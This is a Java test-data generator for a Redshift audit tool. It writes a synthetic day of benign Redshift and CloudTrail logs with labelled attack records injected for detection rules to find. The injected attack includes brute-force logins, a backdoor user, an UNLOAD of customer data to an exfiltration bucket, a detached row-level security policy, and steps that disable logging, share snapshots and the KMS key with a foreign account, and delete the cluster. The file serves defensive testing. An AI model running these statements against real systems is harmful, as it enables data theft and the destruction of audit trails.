package io.rsaudit.testkit.logs;

import io.rsaudit.core.hunt.LogType;
import java.io.BufferedWriter;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;

/**
 * One realistic, busy and benign day of one production cluster, with attacks injected that a precise hunt must find:
 * 50 database users (ETL services loading all day, BI tools whose connections introspect the catalog, analysts and
 * IAM-authenticated users in business hours, three admins from the bastion), IAM users created on their first login,
 * a mistyped password now and then, COPY and UNLOAD with IAM roles to the company bucket, grants to groups, and
 * CloudTrail reads and writes with real-shaped identities (access key ids, session context): describes, cluster
 * credentials for IAM users, manual snapshots, a key rotation, a snapshot of each kind shared with the disaster-recovery
 * account, a lifecycle rule on the data bucket, applications decrypting with the cluster's key, its rotation turned
 * on and another service's retired key deleted. Nothing in the benign part deserves an alert at
 * medium or above under {@link #POLICY}; every record an attack adds is listed with the rule that must show it.
 *
 * <p>The records are written hour by hour, one file per log type and hour, under Redshift's and CloudTrail's S3 names
 * (plain text).
 */
public final class BenignDay {

    public static final String ACCOUNT = LogGenerator.ACCOUNT;
    public static final String CLUSTER = "prod-dw";
    public static final String BUCKET = LogGenerator.ALLOWED_BUCKET;
    /** The bucket the audit logs go to. */
    public static final String LOG_BUCKET = "acme-audit-logs";

    public static final Instant DAY = Instant.parse("2026-11-03T00:00:00Z");

    /** The KMS key that encrypts the cluster, as {@link #writeInventory} records it. */
    public static final String CLUSTER_KEY =
            "arn:aws:kms:" + LogGenerator.REGION + ":" + ACCOUNT + ":key/8e1f2a3b-4c5d-4e6f-9a0b-1c2d3e4f5a6b";

    /** A key of another service, retired during the day. */
    static final String RETIRED_KEY =
            "arn:aws:kms:" + LogGenerator.REGION + ":" + ACCOUNT + ":key/3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f";

    /** The disaster-recovery account, trusted with snapshots. */
    public static final String DR_ACCOUNT = "210987654321";

    /**
     * The policy the day is benign under: the disaster-recovery account, the office network, the company bucket, the
     * log bucket, the admins.
     */
    public static final String POLICY = """
            trustedAccounts: ["%s"]
            hunt:
              allowedCidrs: [10.0.0.0/8]
              allowedBuckets: [acme-data-lake]
              auditLogBuckets: [%s]
              adminUsers: [awsuser, admin, dba_jane]
            """.formatted(DR_ACCOUNT, LOG_BUCKET);

    /** One injected record: the attack, its file and line, and the rule whose alert must show it as evidence. */
    public record Attack(String name, String file, long line, String rule) {}

    /** What was written: the folder, the record counts by type, and the attacks. */
    public record Result(Path dir, Map<LogType, Long> records, List<Attack> attacks) {}

    private static final DateTimeFormatter NAME_TIME =
            DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter TRAIL_TIME =
            DateTimeFormatter.ofPattern("yyyyMMdd'T'HHmm'Z'", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final String[] TABLES = {"sales", "orders", "customers", "events", "inventory", "shipments"};
    private static final String[] CATALOG_PROBES = {
        "select * from pg_namespace order by nspname;",
        "select table_schema, table_name from information_schema.tables where table_schema not in ('pg_catalog');",
        "select * from svv_columns where table_schema = 'public';"
    };

    private final LogGenerator records = new LogGenerator(LogGenerator.Spec.of(1, false));
    private final SplittableRandom random;
    private final int activityPerHour;
    private final List<String> etl = new ArrayList<>();
    private final List<String> bi = new ArrayList<>();
    private final List<String> analysts = new ArrayList<>();
    private final List<String> iam = new ArrayList<>();
    private final List<String> admins = List.of("awsuser", "admin", "dba_jane");
    /** Who mistyped a password in which hour ("user hour"). */
    private final Set<String> mistyped = new HashSet<>();

    /** @param activityPerHour activity-log records per hour (the connection log gets about half as many) */
    public BenignDay(long seed, int activityPerHour) {
        this.random = new SplittableRandom(seed);
        this.activityPerHour = activityPerHour;
        for (int i = 1; i <= 8; i++) {
            etl.add("etl_svc_" + i);
        }
        for (int i = 1; i <= 6; i++) {
            bi.add(i % 2 == 0 ? "tableau_" + i : "looker_" + i);
        }
        for (int i = 1; i <= 27; i++) {
            analysts.add("analyst_" + i);
        }
        for (int i = 1; i <= 6; i++) {
            iam.add((i % 3 == 0 ? "IAMR:" : "IAM:") + "user" + i + "@acme.example");
        }
    }

    public Result generate(Path out) throws IOException {
        Map<LogType, Long> counts = new EnumMap<>(LogType.class);
        List<Attack> attacks = new ArrayList<>();
        for (int hour = 0; hour < 24; hour++) {
            Instant at = DAY.plusSeconds(3600L * hour);
            for (LogType type : LogType.values()) {
                try (LogGenerator.LogFile f = open(out, type, at)) {
                    if (type == LogType.CLOUDTRAIL) {
                        f.raw("{\"Records\":[\n");
                    }
                    hour(f, type, hour, at.toEpochMilli(), attacks);
                    if (type == LogType.CLOUDTRAIL) {
                        f.raw("\n]}\n");
                    }
                    counts.merge(type, f.records, Long::sum);
                }
            }
        }
        return new Result(out, counts, List.copyOf(attacks));
    }

    /**
     * Writes the estate the day's logs come from as an export ({@code hunt --inventory}, the layout {@code scan
     * --input} reads): the cluster with its key and security group, no workgroup, no namespace.
     */
    public static void writeInventory(Path dir) throws IOException {
        Path region = dir.resolve(ACCOUNT).resolve(LogGenerator.REGION);
        Files.createDirectories(region.resolve("redshift"));
        Files.createDirectories(region.resolve("redshift-serverless"));
        Files.createDirectories(dir.resolve(ACCOUNT).resolve("sts"));
        Files.writeString(
                dir.resolve(ACCOUNT).resolve("sts/get-caller-identity.json"),
                "{\"UserId\": \"AIDA3K7ZHJEHJNCLCVKJI\", \"Account\": \"" + ACCOUNT + "\", \"Arn\": \"arn:aws:iam::"
                        + ACCOUNT + ":user/auditor\"}\n");
        Files.writeString(
                region.resolve("redshift/describe-clusters.json"),
                "{\"Clusters\": [{\"ClusterIdentifier\": \"" + CLUSTER + "\", \"ClusterStatus\": \"available\","
                        + " \"Encrypted\": true, \"KmsKeyId\": \"" + CLUSTER_KEY + "\", \"VpcSecurityGroups\":"
                        + " [{\"VpcSecurityGroupId\": \"sg-0prod\", \"Status\": \"active\"}],"
                        + " \"ClusterSecurityGroups\": [], \"Endpoint\": {\"Port\": 5439}}]}\n");
        Files.writeString(region.resolve("redshift-serverless/list-workgroups.json"), "{\"workgroups\": []}\n");
        Files.writeString(region.resolve("redshift-serverless/list-namespaces.json"), "{\"namespaces\": []}\n");
    }

    private LogGenerator.LogFile open(Path out, LogType type, Instant at) throws IOException {
        String day = "2026/11/03";
        String rel = type == LogType.CLOUDTRAIL
                ? "AWSLogs/" + ACCOUNT + "/CloudTrail/" + LogGenerator.REGION + "/" + day + "/" + ACCOUNT
                        + "_CloudTrail_" + LogGenerator.REGION + "_" + TRAIL_TIME.format(at) + "_benign.json"
                : "AWSLogs/" + ACCOUNT + "/redshift/" + LogGenerator.REGION + "/" + day + "/" + ACCOUNT + "_redshift_"
                        + LogGenerator.REGION + "_" + CLUSTER + "_" + type.fileName() + "_" + NAME_TIME.format(at);
        Path p = out.resolve(rel);
        Files.createDirectories(p.getParent());
        return new LogGenerator.LogFile(
                rel,
                new BufferedWriter(new OutputStreamWriter(Files.newOutputStream(p), StandardCharsets.UTF_8), 1 << 16));
    }

    private boolean business(int hour) {
        return hour >= 8 && hour < 18;
    }

    private void hour(LogGenerator.LogFile f, LogType type, int hour, long start, List<Attack> attacks)
            throws IOException {
        int n = switch (type) {
            case USER_ACTIVITY_LOG -> business(hour) ? activityPerHour : activityPerHour / 4;
            case CONNECTION_LOG -> (business(hour) ? activityPerHour : activityPerHour / 4) / 2;
            case CLOUDTRAIL -> business(hour) ? 120 : 30;
            case USER_LOG -> hour >= 9 && hour < 15 ? 1 : 0;
        };
        long step = 3_600_000L / (n + 2);
        long t = start;
        for (int i = 0; i < n; i++) {
            t += step;
            benign(f, type, hour, t, i);
        }
        attack(f, type, hour, start + 1_800_000L, attacks);
    }

    /** The request of a PutResourcePolicy that lets {@code account} restore a Serverless snapshot. */
    private static String serverlessShare(String account) {
        return "\"resourceArn\":\"arn:aws:redshift-serverless:" + LogGenerator.REGION + ":" + ACCOUNT
                + ":snapshot/6a1f3c2e-8d4b-4e0a-9c7f-2b5d8e1a4f60\",\"policy\":\"{\\\"Version\\\":\\\"2012-10-17\\\","
                + "\\\"Statement\\\":[{\\\"Effect\\\":\\\"Allow\\\",\\\"Principal\\\":{\\\"AWS\\\":[\\\"" + account
                + "\\\"]},\\\"Action\\\":[\\\"redshift-serverless:RestoreFromSnapshot\\\"]}]}\"";
    }

    /**
     * A PutKeyPolicy's request for the cluster key: the account's root may administer it and {@code user} (a
     * principal, or {@code *} kept to the account by {@code kms:CallerAccount}) may decrypt with it.
     */
    private static String keyPolicy(String user, boolean callerAccount) {
        String condition = callerAccount
                ? ",\\\"Condition\\\":{\\\"StringEquals\\\":{\\\"kms:CallerAccount\\\":\\\"" + ACCOUNT + "\\\"}}"
                : "";
        return "\"keyId\":\"" + CLUSTER_KEY
                + "\",\"policyName\":\"default\",\"policy\":\"{\\\"Version\\\":\\\"2012-10-17\\\","
                + "\\\"Statement\\\":[{\\\"Effect\\\":\\\"Allow\\\",\\\"Principal\\\":{\\\"AWS\\\":\\\"arn:aws:iam::"
                + ACCOUNT
                + ":root\\\"},\\\"Action\\\":\\\"kms:*\\\",\\\"Resource\\\":\\\"*\\\"},{\\\"Effect\\\":\\\"Allow\\\","
                + "\\\"Principal\\\":{\\\"AWS\\\":\\\"" + user
                + "\\\"},\\\"Action\\\":[\\\"kms:Decrypt\\\",\\\"kms:CreateGrant\\\"],"
                + "\\\"Resource\\\":\\\"*\\\"" + condition + "}]}\",\"bypassPolicyLockoutSafetyCheck\":false";
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    private String officeHost() {
        return "10." + (1 + random.nextInt(3)) + "." + random.nextInt(8) + "." + (10 + random.nextInt(200));
    }

    private void benign(LogGenerator.LogFile f, LogType type, int hour, long t, int i) throws IOException {
        switch (type) {
            case CONNECTION_LOG -> {
                int r = random.nextInt(100);
                String user;
                String host;
                String app;
                if (r < 40) {
                    user = pick(etl);
                    host = "10.2.0." + (10 + Math.abs(user.hashCode() % 8));
                    app = "airflow-redshift-operator";
                } else if (r < 60) {
                    user = pick(bi);
                    host = "10.3.1." + (20 + Math.abs(user.hashCode() % 6));
                    app = user.startsWith("tableau") ? "Tableau Server" : "Looker";
                } else if (r < 85 || !business(hour)) {
                    user = business(hour) ? pick(analysts) : pick(etl);
                    host = business(hour) ? officeHost() : "10.2.0.11";
                    app = business(hour) ? "DBeaver 24.1" : "airflow-redshift-operator";
                } else if (r < 95) {
                    user = pick(iam);
                    host = officeHost();
                    app = "Redshift Query Editor v2";
                } else {
                    int a = random.nextInt(admins.size());
                    user = admins.get(a);
                    host = LogGenerator.ADMIN_HOST;
                    app = "psql";
                }
                // now and then a person at a SQL client mistypes a password once, then gets it right, at most once an
                // hour: services and IAM users do not type passwords, and a busier day does not make people mistype
                // more
                if (business(hour)
                        && app.startsWith("DBeaver")
                        && random.nextInt(400) == 0
                        && mistyped.add(user + " " + hour)) {
                    records.connection(f, "authentication failure", t - 2000, host, user, true, app, 0);
                }
                String event = random.nextInt(3) == 0 ? "disconnecting session" : "authenticated";
                records.connection(f, event, t, host, user, true, app, event.startsWith("disc") ? 4_000_000L : 0);
            }
            case USER_ACTIVITY_LOG -> {
                int r = random.nextInt(100);
                String table = TABLES[random.nextInt(TABLES.length)];
                String user;
                String sql;
                if (r < 30) {
                    user = pick(etl);
                    sql = switch (r % 3) {
                        case 0 ->
                            "copy staging." + table + " from 's3://" + BUCKET + "/in/" + table + "/" + hour
                                    + "/' iam_role 'arn:aws:iam::" + ACCOUNT
                                    + ":role/RedshiftLoad' format as parquet;";
                        case 1 ->
                            hour == 6 && table.equals(TABLES[0])
                                    // the data lake of the DR account, reached through a role chain it trusts
                                    ? "copy staging." + table + " from 's3://" + BUCKET + "/dr/" + table
                                            + "/' iam_role 'arn:aws:iam::" + ACCOUNT
                                            + ":role/RedshiftLoad,arn:aws:iam::"
                                            + DR_ACCOUNT + ":role/LakeReader' format as parquet;"
                                    : "insert into " + table + "\n  select *\n  from staging." + table
                                            + "\n  where load_id = "
                                            + random.nextInt(1_000_000) + ";";
                        default -> "truncate staging." + table + ";";
                    };
                } else if (r < 50) {
                    user = pick(bi);
                    // BI tools introspect the catalog when they connect
                    sql = r % 4 == 0
                            ? CATALOG_PROBES[random.nextInt(CATALOG_PROBES.length)]
                            : dashboardQuery(user, table);
                } else if (r < 95) {
                    user = business(hour) ? pick(r < 88 ? analysts : iam) : pick(etl);
                    sql = r % 6 == 0
                            ? "select * from " + table + " where created_at >= dateadd(day, -" + (1 + r % 30)
                                    + ", current_date) limit " + (100 + r) + ";"
                            : lookupQuery(table);
                } else {
                    user = admins.get(random.nextInt(admins.size()));
                    sql = switch (r) {
                        case 95 -> "grant select on all tables in schema reporting to group analysts;";
                        case 96 ->
                            hour == 10
                                    // the security admin's routine: a row-level security policy put on a table
                                    ? "attach rls policy region_only on " + table + " to role analysts;"
                                    : "vacuum delete only " + table + ";";
                        case 97 -> "analyze " + table + ";";
                        case 98 ->
                            "unload ('select * from " + table + " where day = current_date - 1') to 's3://" + BUCKET
                                    + "/exports/" + table + "_' iam_role 'arn:aws:iam::" + ACCOUNT
                                    + ":role/RedshiftUnload' parquet;";
                        default -> "select * from stv_sessions;";
                    };
                }
                records.activity(f, t, user, sql);
            }
            case USER_LOG -> {
                // an IAM user's first login creates its database user
                String user = iam.get(Math.min(hour - 9, iam.size() - 1));
                records.userlog(f, t, user, "", "create", 0, 0);
            }
            case CLOUDTRAIL -> {
                int r = random.nextInt(100);
                String arn = "arn:aws:iam::" + ACCOUNT + ":role/" + (r < 50 ? "ops-readonly" : "data-platform");
                String ip = "10.1.0." + (10 + random.nextInt(20));
                String cluster = "\"clusterIdentifier\":\"" + CLUSTER + "\"";
                if (hour == 14 && i == 0) {
                    String dr = "arn:aws:iam::" + ACCOUNT + ":role/data-platform";
                    records.trail(
                            f,
                            t,
                            "redshift.amazonaws.com",
                            "AuthorizeSnapshotAccess",
                            dr,
                            ip,
                            "\"snapshotIdentifier\":\"manual-dr\",\"accountWithRestoreAccess\":\"" + DR_ACCOUNT + "\"",
                            null);
                    records.trail(
                            f,
                            t + 1_000,
                            "redshift-serverless.amazonaws.com",
                            "PutResourcePolicy",
                            dr,
                            ip,
                            serverlessShare(DR_ACCOUNT),
                            null);
                    records.trail(
                            f,
                            t + 2_000,
                            "s3.amazonaws.com",
                            "PutBucketLifecycle",
                            dr,
                            ip,
                            "\"bucketName\":\"" + BUCKET + "\",\"lifecycle\":\"\",\"LifecycleConfiguration\":{\"Rule\":"
                                    + "{\"Filter\":{\"Prefix\":\"tmp/\"},\"Expiration\":{\"Days\":7},\"ID\":\"tmp\","
                                    + "\"Status\":\"Enabled\"}}",
                            null);
                    // key housekeeping: the cluster key's rotation turned on, a retired key of another service deleted
                    records.trail(
                            f,
                            t + 3_000,
                            "kms.amazonaws.com",
                            "EnableKeyRotation",
                            dr,
                            ip,
                            "\"keyId\":\"" + CLUSTER_KEY + "\"",
                            null);
                    records.trail(
                            f,
                            t + 4_000,
                            "kms.amazonaws.com",
                            "ScheduleKeyDeletion",
                            dr,
                            ip,
                            "\"keyId\":\"" + RETIRED_KEY + "\",\"pendingWindowInDays\":30",
                            null);
                    // the cluster key's policy rewritten: Redshift through any principal of the account
                    records.trail(
                            f, t + 4_500, "kms.amazonaws.com", "PutKeyPolicy", dr, ip, keyPolicy("*", true), null);
                    // grants on the cluster key to Redshift itself and to an ETL role of the account
                    records.trail(
                            f,
                            t + 5_000,
                            "kms.amazonaws.com",
                            "CreateGrant",
                            dr,
                            ip,
                            grant(CLUSTER_KEY, "redshift." + LogGenerator.REGION + ".amazonaws.com"),
                            null);
                    records.trail(
                            f,
                            t + 6_000,
                            "kms.amazonaws.com",
                            "CreateGrant",
                            dr,
                            ip,
                            grant(CLUSTER_KEY, "arn:aws:iam::" + LogGenerator.ACCOUNT + ":role/etl-loader"),
                            null);
                }
                if (r < 50) {
                    String[] reads = {
                        "DescribeClusters", "DescribeLoggingStatus", "DescribeClusterSnapshots", "DescribeEvents"
                    };
                    records.trail(f, t, "redshift.amazonaws.com", reads[r % reads.length], arn, ip, cluster, null);
                    if (r % 5 == 0) {
                        // an application decrypting with the cluster's key: a KMS call that uses a key, not one that
                        // changes it
                        records.trail(
                                f,
                                t + 500,
                                "kms.amazonaws.com",
                                "Decrypt",
                                arn,
                                ip,
                                "\"keyId\":\"" + CLUSTER_KEY + "\"",
                                null);
                    }
                } else if (r < 80) {
                    String user = iam.get(random.nextInt(iam.size()));
                    records.trail(
                            f,
                            t,
                            "redshift.amazonaws.com",
                            "GetClusterCredentials",
                            "arn:aws:iam::" + ACCOUNT + ":role/analyst-sso",
                            officeHost(),
                            cluster + ",\"dbUser\":\"" + user.substring(user.indexOf(':') + 1)
                                    + "\",\"autoCreate\":true,\"durationSeconds\":3600",
                            null);
                } else if (r < 90) {
                    records.trail(
                            f,
                            t,
                            "redshift-data.amazonaws.com",
                            "ExecuteStatement",
                            arn,
                            ip,
                            cluster + ",\"database\":\"dev\",\"sql\":\"select count(*) from sales\"",
                            null);
                } else if (r < 98 || i % 7 != 0) {
                    records.trail(
                            f,
                            t,
                            "redshift.amazonaws.com",
                            "CreateClusterSnapshot",
                            arn,
                            ip,
                            cluster + ",\"snapshotIdentifier\":\"manual-" + t + "\"",
                            null);
                } else {
                    records.trail(f, t, "redshift.amazonaws.com", "RotateEncryptionKey", arn, ip, cluster, null);
                }
            }
        }
    }

    /**
     * A BI tool's generated query: its context comment (user id, a query slug), quoted aliases, a date range and a
     * filter list, as Looker and Tableau write them. Such statements are most of a real activity log's bytes, and
     * their literals are why a real log compresses about 5:1 rather than the 10:1 of a few repeated templates.
     */
    private String dashboardQuery(String user, String table) {
        StringBuilder b = new StringBuilder(900);
        b.append("-- ")
                .append(user.startsWith("tableau") ? "Tableau" : "Looker")
                .append(" Query Context '{\"user_id\":")
                .append(100 + random.nextInt(900))
                .append(",\"history_slug\":\"")
                .append(hex(16))
                .append("\",\"instance_slug\":\"")
                .append(hex(12))
                .append("\"}'\nSELECT\n    \"")
                .append(table)
                .append("\".\"region\" AS \"")
                .append(table)
                .append(".region\",\n    DATE_TRUNC('day', \"")
                .append(table)
                .append("\".\"created_at\") AS \"")
                .append(table)
                .append(".created_date\",\n    COALESCE(SUM(\"")
                .append(table)
                .append("\".\"amount\"), 0) AS \"")
                .append(table)
                .append(".total_amount\"\nFROM \"public\".\"")
                .append(table)
                .append("\" AS \"")
                .append(table)
                .append("\"\nWHERE ((\"")
                .append(table)
                .append("\".\"created_at\") >= (TIMESTAMP '2026-")
                .append(String.format(
                        Locale.ROOT,
                        "%02d-%02d %02d:%02d:%02d",
                        1 + random.nextInt(10),
                        1 + random.nextInt(28),
                        random.nextInt(24),
                        random.nextInt(60),
                        random.nextInt(60)))
                .append("') AND \"")
                .append(table)
                .append("\".\"customer_id\" IN (");
        for (int i = 8 + random.nextInt(30); i > 0; i--) {
            b.append(random.nextInt(10_000_000)).append(i > 1 ? ", " : "");
        }
        b.append("))\nGROUP BY 1, 2\nORDER BY 3 DESC\nLIMIT ")
                .append(500 + 500 * random.nextInt(10))
                .append(';');
        return b.toString();
    }

    /** An analyst's lookup of some orders or customers by id, email and amount. */
    private String lookupQuery(String table) {
        return "select o.id, o.customer_id, c.email, o.amount, o.created_at from " + table + " o join customers c on"
                + " c.id = o.customer_id where o.id in (" + random.nextInt(90_000_000) + ", "
                + random.nextInt(90_000_000) + ", " + random.nextInt(90_000_000) + ") or c.email = 'c"
                + random.nextInt(1_000_000) + "@" + hex(6) + ".example' or o.amount between "
                + random.nextInt(10_000) + "." + random.nextInt(100) + " and " + (10_000 + random.nextInt(90_000))
                + " order by o.created_at desc;";
    }

    private String hex(int n) {
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            b.append(Character.forDigit(random.nextInt(16), 16));
        }
        return b.toString();
    }

    /** The attacks of one hour and type, written from {@code t} (half past the hour); each listed with its rule. */
    private void attack(LogGenerator.LogFile f, LogType type, int hour, long t, List<Attack> attacks)
            throws IOException {
        switch (type) {
            case CONNECTION_LOG -> {
                if (hour >= 1 && hour <= 6) {
                    // slow brute force: 9 an hour from one address, 54 over six hours (below the burst and hourly
                    // tiers, above the daily one)
                    for (int k = 0; k < 9; k++) {
                        long at = t + k * 380_000L;
                        attacks.add(new Attack("slow brute force", f.path, f.nextLine(), "RSH-AUTH-008"));
                        records.connection(f, "authentication failure", at, "203.0.113.77", "awsuser", true, "psql", 0);
                    }
                }
                if (hour == 4) {
                    // distributed: one user, twelve addresses, one failure each
                    for (int k = 0; k < 12; k++) {
                        attacks.add(new Attack("distributed brute force", f.path, f.nextLine(), "RSH-AUTH-009"));
                        records.connection(
                                f,
                                "authentication failure",
                                t + k * 90_000L,
                                "198.51.100." + (20 + k),
                                "admin",
                                true,
                                "psql",
                                0);
                    }
                }
                if (hour == 20) {
                    // a burst of guesses that worked
                    for (int k = 0; k < 12; k++) {
                        attacks.add(new Attack("brute force", f.path, f.nextLine(), "RSH-AUTH-001"));
                        records.connection(
                                f,
                                "authentication failure",
                                t + k * 5_000L,
                                "185.220.101.9",
                                "etl_svc_3",
                                true,
                                "x",
                                0);
                    }
                    attacks.add(new Attack("brute force success", f.path, f.nextLine(), "RSH-AUTH-003"));
                    records.connection(f, "authenticated", t + 70_000L, "185.220.101.9", "etl_svc_3", true, "x", 0);
                }
            }
            case USER_ACTIVITY_LOG -> {
                if (hour == 20) {
                    // right after the guessed login (20:31:10): who is there and what may this account reach
                    attacks.add(new Attack("reconnaissance", f.path, f.nextLine(), "RSH-EXFIL-003"));
                    records.activity(f, t + 120_000, "etl_svc_3", "select usename, usesuper from pg_user;");
                    attacks.add(new Attack("reconnaissance", f.path, f.nextLine(), "RSH-EXFIL-003"));
                    records.activity(
                            f,
                            t + 180_000,
                            "etl_svc_3",
                            "select * from svv_relation_privileges where identity_name" + " = 'etl_svc_3';");
                }
                if (hour == 21) {
                    attacks.add(new Attack("backdoor superuser", f.path, f.nextLine(), "RSH-PRIV-001"));
                    records.activity(f, t, "etl_svc_3", "create user svc_backup password '***' createuser;");
                    attacks.add(new Attack("exfiltration", f.path, f.nextLine(), "RSH-EXFIL-001"));
                    records.activity(
                            f,
                            t + 60_000,
                            "etl_svc_3",
                            "unload ('select * from customers') to 's3://exfil-drop-991/c_' iam_role"
                                    + " 'arn:aws:iam::" + ACCOUNT + ":role/RedshiftUnload';");
                    attacks.add(new Attack("role chained to another account", f.path, f.nextLine(), "RSH-EXFIL-004"));
                    records.activity(
                            f,
                            t + 75_000,
                            "etl_svc_3",
                            "create external schema drop from data catalog database 'hr' iam_role 'arn:aws:iam::"
                                    + ACCOUNT + ":role/RedshiftLoad,arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT
                                    + ":role/catalog';");
                    attacks.add(new Attack("row-level security detached", f.path, f.nextLine(), "RSH-EVADE-003"));
                    records.activity(
                            f,
                            t + 80_000,
                            "etl_svc_3",
                            "detach rls policy region_only on customers from role analysts;");
                    attacks.add(new Attack("role escalation", f.path, f.nextLine(), "RSH-PRIV-005"));
                    records.activity(f, t + 90_000, "svc_backup", "grant role sys:dba to etl_svc_3;");
                    attacks.add(new Attack("default privileges to public", f.path, f.nextLine(), "RSH-PRIV-004"));
                    records.activity(
                            f,
                            t + 100_000,
                            "svc_backup",
                            "alter default privileges in schema finance grant select on tables to public;");
                }
            }
            case USER_LOG -> {
                if (hour == 21) {
                    attacks.add(new Attack("backdoor superuser", f.path, f.nextLine(), "RSH-PRIV-001"));
                    records.userlog(f, t, "svc_backup", "", "create", 0, 1);
                }
            }
            case CLOUDTRAIL -> {
                String mallory = "arn:aws:iam::" + ACCOUNT + ":user/mallory";
                if (hour == 22) {
                    records.trail(
                            f,
                            t,
                            "redshift.amazonaws.com",
                            "AuthorizeSnapshotAccess",
                            mallory,
                            "185.220.101.9",
                            "\"snapshotIdentifier\":\"manual-1\",\"accountWithRestoreAccess\":\""
                                    + LogGenerator.FOREIGN_ACCOUNT + "\"",
                            null);
                    attacks.add(new Attack("snapshot shared", f.path, f.line + 1, "RSH-CT-004"));
                    records.trail(
                            f,
                            t + 60_000,
                            "redshift.amazonaws.com",
                            "DisableLogging",
                            mallory,
                            "185.220.101.9",
                            "\"clusterIdentifier\":\"" + CLUSTER + "\"",
                            null);
                    attacks.add(new Attack("audit logging disabled", f.path, f.line + 1, "RSH-CT-001"));
                    records.trail(
                            f,
                            t + 120_000,
                            "redshift.amazonaws.com",
                            "AuthorizeEndpointAccess",
                            mallory,
                            "185.220.101.9",
                            "\"clusterIdentifier\":\"" + CLUSTER + "\",\"account\":\"" + LogGenerator.FOREIGN_ACCOUNT
                                    + "\"",
                            null);
                    attacks.add(new Attack("endpoint access granted", f.path, f.line + 1, "RSH-CT-015"));
                    records.trail(
                            f,
                            t + 180_000,
                            "redshift.amazonaws.com",
                            "DisableSnapshotCopy",
                            mallory,
                            "185.220.101.9",
                            "\"clusterIdentifier\":\"" + CLUSTER + "\"",
                            null);
                    attacks.add(new Attack("snapshot copy stopped", f.path, f.line + 1, "RSH-CT-016"));
                    records.trail(
                            f,
                            t + 240_000,
                            "redshift.amazonaws.com",
                            "DeleteCluster",
                            mallory,
                            "185.220.101.9",
                            "\"clusterIdentifier\":\"" + CLUSTER + "\",\"skipFinalClusterSnapshot\":true",
                            null);
                    attacks.add(
                            new Attack("cluster deleted without a final snapshot", f.path, f.line + 1, "RSH-CT-014"));
                    // a stolen key probing what it may do: refused
                    records.trail(
                            f,
                            t + 300_000,
                            "redshift.amazonaws.com",
                            "DisableLogging",
                            "arn:aws:iam::" + ACCOUNT + ":user/intern",
                            "185.220.101.9",
                            "\"clusterIdentifier\":\"" + CLUSTER + "\"",
                            "AccessDenied");
                    attacks.add(new Attack("sensitive change refused", f.path, f.line + 1, "RSH-CT-019"));
                    records.trail(
                            f,
                            t + 360_000,
                            "redshift-serverless.amazonaws.com",
                            "PutResourcePolicy",
                            mallory,
                            "185.220.101.9",
                            serverlessShare(LogGenerator.FOREIGN_ACCOUNT),
                            null);
                    attacks.add(new Attack("serverless snapshot shared", f.path, f.line + 1, "RSH-CT-017"));
                    records.trail(
                            f,
                            t + 420_000,
                            "s3.amazonaws.com",
                            "DeleteBucketPolicy",
                            mallory,
                            "185.220.101.9",
                            "\"bucketName\":\"" + LOG_BUCKET + "\",\"policy\":\"\"",
                            null);
                    attacks.add(new Attack("audit log delivery broken", f.path, f.line + 1, "RSH-CT-020"));
                    records.trail(
                            f,
                            t + 480_000,
                            "kms.amazonaws.com",
                            "ScheduleKeyDeletion",
                            mallory,
                            "185.220.101.9",
                            "\"keyId\":\"" + CLUSTER_KEY + "\",\"pendingWindowInDays\":7",
                            null);
                    attacks.add(new Attack("cluster key scheduled for deletion", f.path, f.line + 1, "RSH-CT-024"));
                    records.trail(
                            f,
                            t + 540_000,
                            "kms.amazonaws.com",
                            "CreateGrant",
                            mallory,
                            "185.220.101.9",
                            grant(CLUSTER_KEY, "arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT + ":role/replication"),
                            null);
                    attacks.add(new Attack("cluster key granted to another account", f.path, f.line + 1, "RSH-CT-028"));
                    records.trail(
                            f,
                            t + 600_000,
                            "kms.amazonaws.com",
                            "DisableKeyRotation",
                            mallory,
                            "185.220.101.9",
                            "\"keyId\":\"" + CLUSTER_KEY + "\"",
                            null);
                    attacks.add(new Attack("cluster key rotation turned off", f.path, f.line + 1, "RSH-CT-030"));
                    records.trail(
                            f,
                            t + 660_000,
                            "kms.amazonaws.com",
                            "PutKeyPolicy",
                            mallory,
                            "185.220.101.9",
                            keyPolicy("arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT + ":root", false),
                            null);
                    attacks.add(new Attack(
                            "cluster key policy opened to another account", f.path, f.line + 1, "RSH-CT-028"));
                }
            }
        }
    }

    /** A CreateGrant's request: the key and a grantee that may decrypt with it and grant on. */
    private static String grant(String key, String grantee) {
        return "\"keyId\":\"" + key + "\",\"granteePrincipal\":\"" + grantee
                + "\",\"operations\":[\"Decrypt\",\"GenerateDataKey\",\"CreateGrant\"]";
    }
}
